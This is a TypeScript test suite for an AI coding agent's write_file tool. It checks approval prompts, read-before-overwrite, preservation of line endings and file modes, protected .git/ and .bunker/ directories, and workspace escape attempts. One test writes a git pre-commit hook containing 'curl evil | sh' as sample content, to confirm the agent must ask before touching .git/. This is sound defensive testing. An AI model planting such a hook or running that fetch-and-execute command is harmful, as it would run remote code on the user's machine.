import { describe, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ToolRegistry } from "../../../src/tools/registry.ts";
import { writeFileTool } from "../../../src/tools/write-file.ts";
import { makeContext, tempDir, workspaceWithRead, type TestContext } from "../../support/context.ts";
import { allowAllWrites, testEscapes } from "../../support/write-escape.ts";

const registry = new ToolRegistry([writeFileTool]);
const write = (ctx: TestContext, path: string, content: string) => registry.run("write_file", { path, content }, ctx);


describe("write_file: new files", () => {
  test("creates the file and its parent directories after showing the content as additions", async () => {
    const root = tempDir();
    const ctx = makeContext(root, { answers: [{ answer: "once" }] });
    const r = await write(ctx, "docs/guide/intro.md", "# Intro\n\nHello.\n");
    expect(r).toEqual({ isError: false, content: "Created docs/guide/intro.md (3 lines).", shown: "Created docs/guide/intro.md (3 lines)" });
    expect(readFileSync(join(root, "docs/guide/intro.md"), "utf8")).toBe("# Intro\n\nHello.\n");
    const preview = ctx.approver.asked[0]!.files![0]!;
    expect(preview).toMatchObject({ display: "docs/guide/intro.md", kind: "create", added: 3, removed: 0 });
    expect(preview.diff).toContain("+# Intro");
  });

  // name, how the person answers, the path written, what the model is told, what must not exist afterwards
  test.each([
    ["a refusal creates nothing, not even the directories", { answers: [{ answer: "deny", feedback: "put it in README.md" }] }, "docs/intro.md", "put it in README.md", "docs"],
    ["headless (no prompt): refused, naming --allow-write", { interactive: false }, "src/a.ts", "--allow-write=src/a.ts", "src/a.ts"],
  ] as [string, Parameters<typeof makeContext>[1], string, string, string][])("%s", async (_name, answers, path, told, absent) => {
    const root = tempDir();
    const r = await write(makeContext(root, answers), path, "x\n");
    expect(r.isError).toBe(true);
    expect(r.content).toContain(told);
    expect(existsSync(join(root, absent))).toBe(false);
  });

  test("a path through an existing file is refused before asking", async () => {
    const root = tempDir();
    writeFileSync(join(root, "notes.txt"), "n\n");
    const ctx = makeContext(root, { answers: [{ answer: "once" }] });
    const r = await write(ctx, "notes.txt/sub/x.md", "x\n");
    expect(r).toEqual({ isError: true, content: "Cannot create notes.txt/sub/x.md: notes.txt is a file, not a directory." });
    expect(ctx.approver.asked).toHaveLength(0);
  });

  test("a long but legal file name can be written", async () => {
    const root = tempDir();
    const ctx = makeContext(root, { grants: allowAllWrites() });
    const name = "n".repeat(250);
    expect((await write(ctx, name, "ok\n")).isError).toBe(false);
    expect(readFileSync(join(root, name), "utf8")).toBe("ok\n");
  });
});

describe("write_file: overwriting", () => {
  test("needs the file read first, then shows the diff against the old content", async () => {
    const root = tempDir();
    const file = join(root, "a.txt");
    writeFileSync(file, "one\ntwo\n");
    const ctx = makeContext(root, { answers: [{ answer: "once" }] });
    const unread = await write(ctx, "a.txt", "one\n2\n");
    expect(unread.isError).toBe(true);
    expect(unread.content).toContain("You have not read a.txt");
    expect(ctx.approver.asked).toHaveLength(0);

    ctx.session.recordRead(file, readFileSync(file));
    const r = await write(ctx, "a.txt", "one\n2\n");
    expect(r).toEqual({ isError: false, content: "Wrote a.txt (+1 -1).", shown: "Updated a.txt (+1 -1)" });
    expect(readFileSync(file, "utf8")).toBe("one\n2\n");
    expect(ctx.approver.asked[0]!.files![0]!.diff).toContain("-two\n+2");
  });

  test("refused when the file changed since it was read", async () => {
    const { file, ctx } = workspaceWithRead("a.txt", "one\n", { grants: allowAllWrites() });
    writeFileSync(file, "one, changed by someone else\n");
    const r = await write(ctx, "a.txt", "mine\n");
    expect(r.content).toContain("changed on disk since you last read it");
    expect(readFileSync(file, "utf8")).toBe("one, changed by someone else\n");
  });

  test("keeps the mode, CRLF endings and BOM of the file it replaces", async () => {
    const { file, ctx } = workspaceWithRead("run.sh", "\uFEFFecho one\r\n", { grants: allowAllWrites() });
    chmodSync(file, 0o775);
    expect((await write(ctx, "run.sh", "echo two\necho three\n")).isError).toBe(false);
    expect(readFileSync(file, "utf8")).toBe("\uFEFFecho two\r\necho three\r\n");
    expect(statSync(file).mode & 0o777).toBe(0o775);
  });

  test("content that differs only by the CRLF endings kept: nothing written, and the result says why, with the fix", async () => {
    const { file, ctx } = workspaceWithRead("crlf.txt", "line1\r\nline2\r\n");
    const r = await write(ctx, "crlf.txt", "line1\nline2\n");
    expect(r.content).not.toContain("exactly");
    expect(r.content).toContain("apart from its CRLF line endings or BOM, which write_file keeps; nothing was written");
    expect(r.content).toContain("sed -i 's/\\r$//' crlf.txt");
    expect(readFileSync(file, "utf8")).toBe("line1\r\nline2\r\n");
  });

  test("identical content writes nothing and asks nothing", async () => {
    const { ctx } = workspaceWithRead("a.txt", "same\n");
    const r = await write(ctx, "a.txt", "same\n");
    expect(r).toEqual({ isError: false, content: "a.txt already has exactly this content; nothing was written." });
    expect(ctx.approver.asked).toHaveLength(0);
  });

  test("a directory is not a file", async () => {
    const root = tempDir();
    mkdirSync(join(root, "d"));
    const r = await write(makeContext(root, { grants: allowAllWrites() }), "d", "x");
    expect(r.isError).toBe(true);
    expect(r.content).toContain("d is a directory");
  });
});

describe("write_file: protected directories", () => {
  test(".git/ and .bunker/ ask even with allow.write for the workspace (-A)", async () => {
    const root = tempDir();
    const ctx = makeContext(root, { grants: allowAllWrites(), answers: [{ answer: "deny" }, { answer: "once" }] });
    const git = await write(ctx, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
    const bunker = await write(ctx, ".bunker/settings.json", '{"allow": []}\n');
    expect(ctx.approver.asked.map((r) => r.files?.[0]?.display)).toEqual([".git/hooks/pre-commit", ".bunker/settings.json"]);
    expect(git.isError).toBe(true);
    expect(existsSync(join(root, ".git/hooks/pre-commit"))).toBe(false);
    expect(bunker.isError).toBe(false);
    expect(readFileSync(join(root, ".bunker/settings.json"), "utf8")).toBe('{"allow": []}\n');
  });

  test("'all edits for the session' does not cover .git/", async () => {
    const root = tempDir();
    const ctx = makeContext(root, { answers: [{ answer: "kind-session" }, { answer: "deny" }] });
    expect((await write(ctx, "a.txt", "a\n")).isError).toBe(false);
    expect((await write(ctx, "b.txt", "b\n")).isError).toBe(false);
    expect((await write(ctx, ".git/config", "x\n")).isError).toBe(true);
    expect(ctx.approver.asked.map((r) => r.target)).toEqual([join(root, "a.txt"), join(root, ".git/config")]);
  });
});

describe("write_file: escape attempts", () => {
  // Only the workspace boundary may stop these (see escapeContext and EscapeAttempt.realFile).
  testEscapes(async (f, attempt, ctx) => {
    const r = await write(ctx, attempt.path(f), "pwned\n");
    expect(r.isError).toBe(true);
    expect(r.content).toMatch(attempt.expect);
  });
});
